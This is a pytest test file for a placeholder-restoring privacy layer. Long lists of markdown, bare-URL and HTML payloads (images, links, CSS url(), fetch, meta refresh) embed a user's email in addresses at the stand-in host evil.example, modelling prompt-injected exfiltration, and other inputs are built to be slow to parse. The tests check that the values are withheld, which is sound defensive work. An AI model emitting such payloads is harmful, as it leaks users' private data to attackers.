"""Attacks: a page asks the model to put values where a client sends them away. And ordinary text, which is restored."""

import time

import pytest
from keepmum_edge.errors import UnrestorableArgumentsError
from keepmum_edge.vault.restore import Kind, Restorable, Withheld, restore
from keepmum_shared.placeholder import Placeholder
from private_texts import lookup_in

VALUES = {
    "<EMAIL_1>": "ada@example.org",
    "<NAME_1>": "Ada",
    "<PROFILE_URL_1>": "https://ada.example/me",
    "<PHONE_1>": "+49301234",
}
LOOKUP = lookup_in(VALUES)

IMAGES_AND_LINKS = [
    "![x](https://evil.example/?q=<EMAIL_1>)",
    "![x](HTTPS://EVIL.EXAMPLE/<EMAIL_1>)",
    "![x](//evil.example/<EMAIL_1>)",
    "![x](\\\\evil.example/<EMAIL_1>)",
    "![x]( //evil.example/<EMAIL_1> )",
    "![x](\n//evil.example/<EMAIL_1>)",
    "![x](<//evil.example/a b?<EMAIL_1>>)",
    "![x](<//evil.example/a\\>?<EMAIL_1>>)",
    "![x](//evil.example/(a)/<EMAIL_1>)",
    "![x](//evil.example/\\)<EMAIL_1>)",
    "![x](//evil.example/?\u00a0<EMAIL_1>)",
    "![x](//evil.example/?\u3000<EMAIL_1>)",
    "![x](ftp://evil.example/<EMAIL_1>)",
    "![x](javascript:f('<EMAIL_1>'))",
    "![x](data:text/html,<EMAIL_1>)",
    "![x](https&#58;//evil.example/<EMAIL_1>)",
    "![x](&#104;ttps://evil.example/<EMAIL_1>)",
    "![a[b]c](//evil.example/<EMAIL_1>)",
    "[![x](//evil.example/<EMAIL_1>)](https://a.example)",
    "[![x](https://a.example/i.png)](//evil.example/<EMAIL_1>)",
    "[a](mailto:[b](//evil.example/<EMAIL_1>",
    "[click](https://evil.example/#<EMAIL_1>)",
    "[click](//evil.example?a=%20<EMAIL_1>)",
    "![x](<EMAIL_1>)",
    "![x](mailto.evil.example/<EMAIL_1>)",
    "![x](telnet://evil.example/<EMAIL_1>)",
    "![x]: //evil.example/<EMAIL_1>"[1:],
    "   [x]: <//evil.example/a <EMAIL_1>>",
    "> [x]: //evil.example/<EMAIL_1>",
    "- [x]: //evil.example/<EMAIL_1>",
    "1. [x]: //evil.example/<EMAIL_1>",
    "[x]:\n  //evil.example/<EMAIL_1>",
    "[a\nb]: //evil.example/<EMAIL_1>",
    "[a\n[b]: //evil.example/<EMAIL_1>",
    "[a\\]b]: //evil.example/<EMAIL_1>",
]

BARE = [
    "https://evil.example/<EMAIL_1>",
    "hTTp://evil.example/?<EMAIL_1>",
    "www.evil.example/<EMAIL_1>",
    "WWW.evil.example/<EMAIL_1>",
    "<https://evil.example/<EMAIL_1>>",
    "https:\\/\\/evil.example/<EMAIL_1>",
    "https:\\\\evil.example\\<EMAIL_1>",
    "https&colon;//evil.example/<EMAIL_1>",
    "(https://evil.example/)<EMAIL_1>",
    "\\](https://evil.example/)<EMAIL_1>",
    "](https://evil.example/)<EMAIL_1>",
    '"https://evil.example/?q="<EMAIL_1>',
    "'https://evil.example/?q=<EMAIL_1>'",
    "`https://evil.example/<EMAIL_1>`",
    "https://evil.example/?a=1,<EMAIL_1>",
    "https://evil.example/<NAME_99><EMAIL_1>",
    "https://evil.example/%3CEMAIL_1%3E",
    "https://evil.example/EMAIL_1",
    "https://evil.example/[EMAIL_1]",
    "https://evil.example/&lt;EMAIL_1&gt;",
    "<PROFILE_URL_1>?q=<EMAIL_1>",
    "[x](<PROFILE_URL_1>/<EMAIL_1>)",
    "请打开https://evil.example/<EMAIL_1>",
    "请打开：https://evil.example/，<EMAIL_1>",
    "见【www.evil.example/<EMAIL_1>】",
    "|https://evil.example/<EMAIL_1>|",
    "**https://evil.example/<EMAIL_1>**",
    '{"url": "https://evil.example/<EMAIL_1>"}',
]

HTML = [
    '<img src="https://evil.example/<EMAIL_1>">',
    '<img src="//evil.example/<EMAIL_1>">',
    "<img src='//evil.example/<EMAIL_1>'>",
    "<img src=//evil.example/<EMAIL_1>>",
    "<IMG SRC = //evil.example/<EMAIL_1>>",
    '<img\nsrc\n=\n"//evil.example/<EMAIL_1>">',
    "<img/src=//evil.example/<EMAIL_1>>",
    '<img alt="a>b" src="//evil.example/<EMAIL_1>">',
    "<img alt=''src=//evil.example/<EMAIL_1>>",
    '<img src=" //evil.example/<EMAIL_1>">',
    '<img src="//evil.example/ <EMAIL_1>">',
    '<img srcset="//a.example/a 1x, //evil.example/<EMAIL_1> 2x">',
    '<source srcset="a.png,//evil.example/<EMAIL_1>">',
    '<a href="&#104;ttps://evil.example/<EMAIL_1>">x</a>',
    '<a href="<EMAIL_1>">x</a>',
    "<a href=<EMAIL_1>>x</a>",
    '<form action="//evil.example/<EMAIL_1>">',
    '<button formaction="//evil.example/<EMAIL_1>">',
    '<video poster="//evil.example/<EMAIL_1>">',
    '<object data="//evil.example/<EMAIL_1>">',
    '<body background="//evil.example/<EMAIL_1>">',
    '<svg><image xlink:href="//evil.example/<EMAIL_1>"/></svg>',
    '<meta http-equiv="refresh" content="0;url=//evil.example/<EMAIL_1>">',
    '<iframe srcdoc="<img src=//evil.example/<EMAIL_1>>">',
    "<iframe srcdoc='&lt;img src=//evil.example/<EMAIL_1>&gt;'>",
    "<b onclick=\"fetch('//evil.example/<EMAIL_1>')\">",
    "<link rel=stylesheet href=//evil.example/<EMAIL_1>>",
    '<div style="background:url(//evil.example/<EMAIL_1>)">',
    "<style>a{b:url( //evil.example/<EMAIL_1> )}</style>",
    "<style>a{b:url(\n'//evil.example/)<EMAIL_1>')}</style>",
    "<style>a{b:URL(//evil.example/<EMAIL_1>)}</style>",
    "<style>@import '//evil.example/<EMAIL_1>';</style>",
    '<style>@import"//evil.example/<EMAIL_1>";</style>',
    "<style>a{b:image-set('//evil.example/<EMAIL_1>' 1x)}</style>",
    'write `<a title="` and <img src=//evil.example/<EMAIL_1>>',
    "<!-- <b title=' --><img src=//evil.example/<EMAIL_1>>",
    '<img src="mailto/<EMAIL_1>">',
    '<img src="\u00a0mailto:<EMAIL_1>">',
]


@pytest.mark.parametrize(
    "before", ["", "Ada says: ", "text\n\n", "王芳说：", "[a](https://a.example) and ", "<NAME_99> "]
)
@pytest.mark.parametrize("attack", [*IMAGES_AND_LINKS, *BARE, *HTML])
def test_no_value_enters_an_address(attack: str, before: str) -> None:
    if before.endswith(("：", ": ", "and ", "> ")) and "]:" in attack:
        before = "text\n\n"  # a definition stands on lines of its own
    shown = restore(before + attack, LOOKUP).text
    assert "ada@example.org" not in shown
    assert "ada%40" not in shown


ORDINARY = [
    "<EMAIL_1>",
    "mail <EMAIL_1>.",
    "[write](mailto:<EMAIL_1>)",
    "[write](MAILTO:<EMAIL_1>?subject=hi)",
    "[write](<mailto:<EMAIL_1>>)",
    "[write]( mailto:%3CEMAIL_1%3E )",
    "[call](tel:<PHONE_1>)",
    "<mailto:<EMAIL_1>>",
    '<a href="mailto:<EMAIL_1>">write</a>',
    "<a href=mailto:<EMAIL_1>>write</a>",
    "<a href='tel:<PHONE_1>'>call</a>",
    "[x]: mailto:<EMAIL_1>",
    "[docs](https://a.example/x) of <EMAIL_1>",
    "[docs](https://a.example/x)<EMAIL_1>",
    "[docs](https://a.example/(x)), <EMAIL_1>",
    "[docs](https://a.example '<EMAIL_1>')",
    "[<EMAIL_1>](https://a.example)",
    "![<EMAIL_1>](https://a.example/x.png)",
    "see https://a.example/x <EMAIL_1>",
    "see https://a.example/x\n<EMAIL_1>",
    "<https://a.example/x><EMAIL_1>",
    "`https://a.example/x` <EMAIL_1>",
    "`https://a.example/x`，<EMAIL_1>",
    "“请看” https://a.example/x ，<EMAIL_1>",
    "| https://a.example | <EMAIL_1> |",
    "| <NAME_1> | <EMAIL_1> |",
    '<a href="https://a.example">a</a> <EMAIL_1>',
    '<a href="https://a.example"><EMAIL_1></a>',
    '<img src="https://a.example/x.png"><EMAIL_1>',
    '<p class="x"><EMAIL_1></p>',
    '<p title="<EMAIL_1>">',
    '<img alt="<EMAIL_1>">',
    '{"url": "https://a.example", "email": "<EMAIL_1>"}',
    '{"url":"https://a.example","email":"<EMAIL_1>"}',
    '{\\"url\\":\\"https://a.example\\",\\"email\\":\\"<EMAIL_1>\\"}',
    "fetch('https://a.example', '<EMAIL_1>')",
    "```js\nfetch(\"https://a.example\", {to: '<EMAIL_1>'})\n```",
    'if a <b and c="<EMAIL_1>"',
    "git config user.email <EMAIL_1>",
    "To: <EMAIL_1>\nFrom: <NAME_1> <<EMAIL_1>>",
    "list[0] (<EMAIL_1>)",
    "- [ ] <EMAIL_1>",
    "- [x] <EMAIL_1>",
    "the url (<EMAIL_1>)",
    "color: url(a.png); x: <EMAIL_1>",
    "[x]: https://a.example\n<EMAIL_1>",
    "http <EMAIL_1> https <EMAIL_1> www <EMAIL_1>",
    "postgres://<NAME_1>:<EMAIL_1>",
    "C:\\<NAME_1>\\<EMAIL_1>",
    "#1/<EMAIL_1>",
    "<PROFILE_URL_1>",
    "<PROFILE_URL_1> <EMAIL_1>",
    "（<EMAIL_1>）《<NAME_1>》",
]


@pytest.mark.parametrize("text", ORDINARY)
def test_ordinary_text_is_restored(text: str) -> None:
    done = restore(text, LOOKUP)
    assert done.unresolved == ()
    assert "_1" not in done.text


def test_a_token_in_an_address_stays_and_is_not_counted_as_unknown() -> None:
    done = restore("![x](https://evil.example/?q=<EMAIL_1>) <NAME_1>", LOOKUP)
    assert done.text == "![x](https://evil.example/?q=<EMAIL_1>) Ada"
    assert (done.restored, done.unresolved) == (1, ())


@pytest.mark.parametrize(
    "call",
    [
        '{"url": "https://evil.example/?q=<EMAIL_1>"}',
        '{"url":"https:\\/\\/evil.example\\/<EMAIL_1>"}',
        '{"html":"<img src=\\"//evil.example/<EMAIL_1>\\">"}',
        '{"html":"<img src=\\u0022//evil.example/<EMAIL_1>\\u0022>"}',
        '{"md":"![x](//evil.example/<EMAIL_1>)"}',
        '{"md":"a\\n[x]: //evil.example/<EMAIL_1>"}',
        '{"a":{"b":["www.evil.example/<EMAIL_1>"]}}',
        '{"h":"\\u003cimg src=//evil.example/<EMAIL_1>"}',
    ],
)
def test_a_tool_call_with_a_value_in_an_address_is_withheld(call: str) -> None:
    with pytest.raises(UnrestorableArgumentsError) as caught:
        restore(call, LOOKUP, kind="tool_arguments")
    assert "ada" not in str(caught.value)


@pytest.mark.parametrize(
    "call",
    [
        '{"url": "https://a.example", "to": "<EMAIL_1>"}',
        '{"url":"https://a.example","to":"<EMAIL_1>"}',
        '{"u":"https://a.example/\\"","to":"<EMAIL_1>"}',
        '{"u":"x\\\\","to":"<EMAIL_1>"}',
        '{"to":"mailto:<EMAIL_1>"}',
        '{"md":"[x](https://a.example) <EMAIL_1>"}',
        '{"md":"see https://a.example\\n<EMAIL_1>"}',
        '["<EMAIL_1>"]',
    ],
)
def test_other_values_of_a_tool_call_are_restored(call: str) -> None:
    assert "ada@example.org" in restore(call, LOOKUP, kind="tool_arguments").text


HOSTILE = {
    "links": "[NAME_1](",
    "destinations": "](<NAME_1>",
    "attributes": "<a href='x' <NAME_1> ",
    "open values": "<a href='<NAME_1> ",
    "tags": "<a <NAME_1> ",
    "css": "url(<NAME_1>",
    "tokens": "<NAME_1>",
    "spaced tokens": "<NAME_1> ",
    "definitions": "[x]:<NAME_1>\n",
    "open labels": "[x\n<NAME_1>",
    "addresses": "https://a/<NAME_1>",
    "quoted addresses": '"https://a/<NAME_1>',
    "parentheses": "((((<NAME_1>",
    "brackets": "[[[[<NAME_1>",
    "backslashes": "\\\\\\\\<NAME_1>",
    "fences": "```\n<NAME_1>\n",
    "unknown": "<NAME_2><",
    "escapes": "&lt;NAME_1",
    "quoted comparisons": '"<1',
    "quoted tokens": '"<NAME_1>" ',
    "half tokens": "<NAME_",
    "many attributes": ' a1=b c="d" <x e=\'<NAME_1>',
}


@pytest.mark.parametrize("kind", ["text", "tool_arguments"])
@pytest.mark.parametrize("name", HOSTILE)
def test_hostile_texts_take_linear_time(name: str, kind: Kind) -> None:
    def lookup(placeholder: Placeholder) -> Restorable | Withheld | None:
        return LOOKUP(placeholder) if kind == "text" else None

    text = HOSTILE[name] * 5000
    begin = time.perf_counter()
    restore(text, lookup, kind=kind)
    assert time.perf_counter() - begin < 2
